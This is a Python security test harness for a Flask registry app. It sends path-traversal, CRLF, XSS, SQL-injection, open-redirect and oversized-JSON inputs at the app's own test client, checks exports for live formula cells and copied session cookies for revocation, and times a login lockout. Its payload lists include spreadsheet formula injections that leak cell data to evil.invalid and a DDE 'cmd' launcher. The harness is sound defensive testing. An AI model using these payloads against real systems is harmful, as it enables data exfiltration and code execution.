"""Hostile bench: thousands of hostile requests, formula text in every export, copied sessions.

    .venv/bin/python bench/hostile_bench.py [--database-url postgresql://postgres@127.0.0.1:5432/scratch]
        [--rounds N]

Builds the demo city in an empty database (the PostgreSQL database given is emptied: its tables
are dropped and recreated), stores formula-looking text in records, then counts:

- requests: every route of the url_map with hostile path segments (NUL, CR LF, 5,000 characters,
  "../", formulas, markup…) for each of its methods, as nobody, as a signed-in admin and with an
  admin's API token; hostile query strings (huge page numbers, control characters) on the list
  pages and API lists; bad ``next`` targets at sign-in; JSON bodies nested 100,000 deep or of the
  wrong type; hostile uploads. Each answer's status is tallied: ``server_errors`` (5xx) must be 0.
- ``live_formula_cells``: formula cells in every workbook we write from that data (the registry
  export, each unit's export, fix workbooks, annotated copies of XLSX, CSV and JSON uploads, the
  audit's league table and findings), plus CSV cells a spreadsheet would run. Goal 0.
- ``sessions_still_valid``: copies of a session cookie that still open /admin/users after logout,
  an admin's password reset, the user's own password change, deactivation or
  ``flask users end-sessions``. Goal 0.
- ``lockout``: 24 wrong passwords sent at once from 24 addresses: how many were checked, whether
  the account ended locked.

Forms are sent without CSRF tokens (WTF_CSRF_ENABLED off) so that the hostile values reach the
views; the JSON goes to bench/results/hostile.json (hostile-postgresql.json with --database-url).
"""
import argparse
import csv
import io
import json
import os
import re
import sys
import tempfile
import threading
import time
import urllib.parse
from collections import Counter

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, ROOT)

SEGMENTS = [
    "a\x00b", "\x00", "DEMO-PT\r\nSet-Cookie: x=1", "a\x7fb", "../../etc/passwd", "%00", "%",
    "x" * 5000, "=HYPERLINK(\"http://evil.invalid\",\"x\")", "<script>alert(1)</script>",
    "' OR 1=1 --", "Phường Mũi Né", "1.001193", "99999999999999999999999", "-1", "\u202e",
    "\ud7ff", "DEMO-PT", "😀" * 50,
]
PAGES = ["99999999999999999999999", "-1", "0", "1e9", "٣", "9" * 5000, "1\x00", "NaN"]
QUERIES = ["\x00", "a" * 10000, "=1+1", "\"", "*" * 200, "khai sinh", "<b>", "%00%0d%0a"]
NEXTS = ["%2F%0D%0ASet-Cookie:%20a=b", "//evil.invalid", "/\\evil.invalid", "http://evil.invalid",
         "/%00", "[::1", "/" + "a" * 5000, "javascript:alert(1)"]
FORMULAS = ['=HYPERLINK("http://evil.invalid/?d="&A1,"Bấm vào đây")', "=1+1", "@SUM(A1:A9)",
            "+cmd|' /C calc'!A0", "-2+3", "=IMPORTXML(\"http://evil.invalid\",\"//a\")"]
DEEP = "[" * 100_000 + "]" * 100_000
ARGUMENT = re.compile(r"<[^>]+>")
WRITES = {"POST", "PUT", "PATCH", "DELETE"}


class Tally:
    def __init__(self):
        self.tried, self.statuses, self.errors = 0, Counter(), []

    def add(self, label, response):
        self.tried += 1
        self.statuses[response.status_code // 100 * 100] += 1
        if response.status_code >= 500 and len(self.errors) < 30:
            self.errors.append(f"{response.status_code} {label}"[:300])


def make_app(url, folder):
    from app import create_app

    return create_app({
        "SQLALCHEMY_DATABASE_URI": url, "SEARCH_INDEX_DIR": os.path.join(folder, "index"),
        "SECRET_KEY": "bench", "WTF_CSRF_ENABLED": False, "SEARCH_SYNC_ON_COMMIT": False,
        "PASSWORD_HASH_METHOD": "pbkdf2:sha256:1000", "SEARCH_WARM": False,
        "IMPORT_STORAGE_DIR": os.path.join(folder, "imports"),
    })


def setup(app):
    from sqlalchemy import text

    from importers.seed.demo import load_demo
    from procedures import services
    from procedures.db import db
    from procedures.services import accounts

    with app.app_context():
        db.drop_all()
        if db.engine.dialect.name == "postgresql":
            with db.engine.begin() as conn:
                conn.execute(text("DROP TABLE IF EXISTS alembic_version"))
        db.create_all()
        load_demo()
        units = [u.code for u in services.units.all()]
        procedure = services.procedures.all()[0] if hasattr(services.procedures, "all") else None
        accounts.create_user("quan-tri", "mat-khau-123", "admin")
        _, token = accounts.create_token("quan-tri", "bench")
        # Formula-looking text in records a user could type, then read by every export.
        editor_unit = next(code for code in units if code != units[0])
        accounts.create_user("can-bo", "mat-khau-123", "unit_editor", editor_unit)
        for i, text_value in enumerate(FORMULAS):
            services.officers.create({"unit_code": editor_unit, "full_name": f"Cán bộ {i}",
                                      "department": text_value, "position_title": text_value})
        del procedure
    return units, editor_unit, {"Authorization": f"Bearer {token}"}


def signed_in(app, username="quan-tri", password="mat-khau-123", address="192.0.2.10"):
    client = app.test_client()
    response = client.post("/login", data={"username": username, "password": password},
                           environ_base={"REMOTE_ADDR": address})
    assert response.status_code == 302, response.status_code
    return client


def hostile_requests(app, token, tally):
    anonymous, admin = app.test_client(), signed_in(app)
    rules = [r for r in app.url_map.iter_rules() if not r.endpoint.endswith("static")]
    for rule in rules:
        methods = sorted((rule.methods or set()) - {"HEAD", "OPTIONS"})
        segments = SEGMENTS if rule.arguments else [None]
        for method in methods:
            for segment in segments:
                path = ARGUMENT.sub(urllib.parse.quote(segment, safe=""), rule.rule) \
                    if segment is not None else rule.rule
                api = path.startswith("/api/")
                for who, client, headers in (("anonymous", anonymous, {}), ("admin", admin, {}),
                                             ("token", anonymous, token if api else {})):
                    if who == "token" and not api:
                        continue
                    kwargs = {"json": {"name": segment}} if method in WRITES and api else (
                        {"data": {"name": segment or "x", "code": segment or "x"}}
                        if method in WRITES else {})
                    response = client.open(path, method=method, headers=headers, **kwargs)
                    tally.add(f"{who} {method} {path[:120]}", response)
    lists = ["/", "/units", "/imports/history", "/audit", "/api/v1/procedures", "/api/v1/units",
             "/api/v1/imports", "/api/v1/search", "/api/v1/audits"]
    for path in lists:
        for page in PAGES:
            for q in QUERIES[:4]:
                response = admin.get(path, query_string={"page": page, "q": q}, headers=token)
                tally.add(f"GET {path}?page={page[:20]}", response)
    for target in NEXTS:
        for i in range(3):
            client = app.test_client()
            response = client.post(f"/login?next={target}", data={
                "username": "quan-tri", "password": "mat-khau-123" if i == 0 else "sai-roi-123"},
                environ_base={"REMOTE_ADDR": f"198.51.100.{i + 50}"})
            tally.add(f"POST /login?next={target[:30]}", response)
    for path in ("/api/v1/procedures", "/api/v1/units", "/api/v1/officers", "/api/v1/assignments",
                 "/api/v1/audits"):
        for body in (DEEP, '{"a": ' * 50_000 + "1" + "}" * 50_000, "1" * 100_000, "[]", "null",
                     '{"code": "\\u0000"}', "{" * 10):
            response = anonymous.post(path, data=body, content_type="application/json",
                                      headers=token)
            tally.add(f"POST {path} body {body[:20]}", response)
    for name, content in hostile_files():
        for client, headers in ((anonymous, token), (admin, {})):
            url = "/api/v1/imports" if headers else "/imports"
            response = client.post(url, headers=headers, content_type="multipart/form-data",
                                   data={"file": (io.BytesIO(content), name), "dry_run": "1"})
            tally.add(f"POST {url} {name}", response)


def hostile_files():
    from openpyxl import Workbook

    def workbook(rows):
        wb = Workbook()
        ws = wb.active
        ws.title = "Cán bộ"
        for row in rows:
            ws.append(row)
        buffer = io.BytesIO()
        wb.save(buffer)
        return buffer.getvalue()

    header = ["Mã đơn vị", "Họ và tên", "Điện thoại", "Thư điện tử", "Phòng ban"]
    yield "sau.json", ('{"units": ' + DEEP + "}").encode()
    yield "o-sau.json", ('{"units": [{"code": ' + "[" * 60 + "]" * 60 + "}]}").encode()
    yield "cong-thuc.xlsx", workbook([header] + [["DEMO-PT", f"Cán bộ {i}", "0252 3832 256",
                                                  None, f] for i, f in enumerate(FORMULAS)])
    yield "loi-excel.xlsx", workbook([header, ["DEMO-PT", "#REF!", "#N/A", "#DIV/0!", "#NAME?"]])
    yield "so-dien-thoai.xlsx", workbook([header, ["DEMO-PT", "Nguyễn Văn A", 2523832256,
                                                   "khong-phai-email", None]])
    yield "rong.xlsx", b""
    yield "rac.xlsx", os.urandom(4096)
    yield "rac.csv", b"\xff\xfe\x00\x00" * 1000
    yield "dieu-khien.json", b'{"units": [{"code": "\\u0000\\u0001", "name": "\\u202e"}]}'


def csv_live(body: bytes) -> int:
    text = body.decode("utf-8-sig", "replace")
    return sum(1 for row in csv.reader(io.StringIO(text)) for cell in row
               if cell.startswith(("=", "+", "-", "@")) and not re.fullmatch(r"-?\d+([.,]\d+)?",
                                                                             cell))


def exports(app, units, editor_unit, folder):
    """{export name: live formula cells}."""
    from openpyxl import load_workbook

    from importers.annotate import annotate
    from importers.fixbook import build_fix_workbook
    from importers.pipeline import ImportOptions, run_import
    from importers.template import records_from_database, write_workbook
    from procedures.cells import live_formulas

    counts = {}

    def count(name, body):
        counts[name] = live_formulas(load_workbook(io.BytesIO(body)))

    admin = signed_in(app)
    with app.app_context():
        buffer = io.BytesIO()
        write_workbook(buffer, records_from_database())
        count("registry export", buffer.getvalue())
        buffer = io.BytesIO()
        write_workbook(buffer, records_from_database(editor_unit, descendants=True))
        count(f"export --unit {editor_unit}", buffer.getvalue())
        count(f"fix workbook {editor_unit} (cli)", build_fix_workbook(editor_unit))
        exported = os.path.join(folder, "export.xlsx")
        write_workbook(exported, records_from_database())
        # The same data as CSV (zip) and JSON uploads, each with an error so the copy is marked.
        records = records_from_database()
        sources = {"xlsx": exported, "json": os.path.join(folder, "upload.json"),
                   "csv": os.path.join(folder, "upload.zip")}
        _write_json(sources["json"], records)
        _write_zip(sources["csv"], records)
        for fmt, path in sources.items():
            options = ImportOptions.from_config(app.config, app.instance_path, dry_run=True,
                                                filename=os.path.basename(path))
            report, _ = run_import(path, options)
            out = io.BytesIO()
            if annotate(path, report["format"], report, out, options.limits):
                count(f"annotated copy ({fmt})", out.getvalue())
    runner = app.test_cli_runner()
    runner.invoke(args=["audit", "run"])
    count(f"fix workbook {editor_unit} (page)",
          admin.get(f"/audit/units/{editor_unit}/fix.xlsx").data)
    count("audit league.xlsx", admin.get("/audit/league.xlsx").data)
    count(f"audit findings.xlsx {editor_unit}",
          admin.get(f"/audit/units/{editor_unit}/findings.xlsx").data)
    counts["audit league.csv"] = csv_live(admin.get("/audit/league.csv").data)
    counts[f"audit findings.csv {editor_unit}"] = csv_live(
        admin.get(f"/audit/units/{editor_unit}/findings.csv").data)
    return counts


def _write_json(path, records):
    from importers.flatten import PARTS

    del PARTS
    with open(path, "w", encoding="utf-8") as f:
        json.dump({k: v for k, v in records.items() if k in ("units", "officers")}, f,
                  ensure_ascii=False, default=str)


def _write_zip(path, records):
    import zipfile

    from importers.spec import SHEETS

    with zipfile.ZipFile(path, "w") as archive:
        for sheet in SHEETS:
            if sheet.id not in ("units", "officers"):
                continue
            out = io.StringIO()
            writer = csv.writer(out)
            writer.writerow([c.field for c in sheet.columns])
            for row in records.get(sheet.id, []):
                writer.writerow(["" if row.get(c.field) is None else row.get(c.field)
                                 for c in sheet.columns])
            archive.writestr(f"{sheet.id}.csv", out.getvalue().encode("utf-8-sig"))


def sessions(app, editor_unit):
    """How many copied cookies still open a page after each way a session should end."""
    from procedures.services import accounts

    still_valid, cases = 0, []
    with app.app_context():
        for name in ("dang-xuat", "dat-lai", "doi-mat-khau", "khoa", "ket-thuc"):
            accounts.create_user(name, "mat-khau-123", "admin")
    boss = signed_in(app)
    for name in ("dang-xuat", "dat-lai", "doi-mat-khau", "khoa", "ket-thuc"):
        browser = signed_in(app, name, address="192.0.2.20")
        stolen = app.test_client()
        stolen.set_cookie("session", browser.get_cookie("session").value)
        assert stolen.get("/admin/users").status_code == 200
        if name == "dang-xuat":
            browser.post("/logout")
        elif name == "dat-lai":
            boss.post(f"/admin/users/{name}/password", data={"password": "mat-khau-moi-456"})
        elif name == "doi-mat-khau":
            browser.post("/account/password", data={"current_password": "mat-khau-123",
                                                    "password": "mat-khau-moi-456",
                                                    "password_again": "mat-khau-moi-456"})
        elif name == "khoa":
            boss.post(f"/admin/users/{name}", data={"role": "admin"})  # "active" unticked
        else:
            app.test_cli_runner().invoke(args=["users", "end-sessions", name])
        valid = stolen.get("/admin/users").status_code == 200
        still_valid += valid
        cases.append({"ended_by": name, "copied_cookie_still_valid": valid})
    return still_valid, cases


def lockout(app):
    from procedures.models import User
    from procedures.services import accounts

    with app.app_context():
        accounts.create_user("bi-doan", "mat-khau-123", "admin")
    barrier, statuses = threading.Barrier(24), []

    def one(i):
        client = app.test_client()
        barrier.wait()
        statuses.append(client.post("/login", data={"username": "bi-doan",
                                                    "password": "doan-sai-123"},
                                    environ_base={"REMOTE_ADDR": f"203.0.113.{i + 1}"})
                        .status_code)
    threads = [threading.Thread(target=one, args=(i,)) for i in range(24)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    from sqlalchemy import select

    from procedures.db import db

    with app.app_context():
        locked = db.session.scalars(select(User).where(User.username == "bi-doan")).one()
        return {"sent_at_once": 24, "checked_and_wrong_401": statuses.count(401),
                "refused_as_locked_429": statuses.count(429),
                "server_errors": sum(1 for s in statuses if s >= 500),
                "account_locked": locked.locked_until is not None}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--database-url", default=None)
    parser.add_argument("--rounds", type=int, default=1, help="repeat the hostile requests")
    args = parser.parse_args()
    folder = tempfile.mkdtemp(prefix="hostile-bench-")
    url = args.database_url or "sqlite:///" + os.path.join(folder, "hostile.sqlite3")
    import logging

    logging.disable(logging.CRITICAL)  # the 404s and refusals are expected; keep the output short
    app = make_app(url, folder)
    app.instance_path = folder
    started = time.perf_counter()
    units, editor_unit, token = setup(app)
    tally = Tally()
    for _ in range(args.rounds):
        hostile_requests(app, token, tally)
    formula_counts = exports(app, units, editor_unit, folder)
    still_valid, session_cases = sessions(app, editor_unit)
    locked = lockout(app)
    result = {
        "command": "python bench/hostile_bench.py" + (" --database-url …" if args.database_url
                                                       else ""),
        "database": url.split(":")[0].split("+")[0],
        "requests_tried": tally.tried,
        "statuses": {str(k): v for k, v in sorted(tally.statuses.items())},
        "server_errors": tally.statuses.get(500, 0),
        "server_error_examples": tally.errors,
        "live_formula_cells": sum(formula_counts.values()),
        "live_formula_cells_by_export": formula_counts,
        "sessions_still_valid": still_valid,
        "sessions": session_cases,
        "lockout": locked,
        "seconds": round(time.perf_counter() - started, 1),
    }
    print(json.dumps(result, ensure_ascii=False, indent=2))
    os.makedirs(os.path.join(ROOT, "bench", "results"), exist_ok=True)
    name = "hostile-postgresql.json" if args.database_url else "hostile.json"
    with open(os.path.join(ROOT, "bench", "results", name), "w", encoding="utf-8") as f:
        json.dump(result, f, ensure_ascii=False, indent=2)


if __name__ == "__main__":
    main()
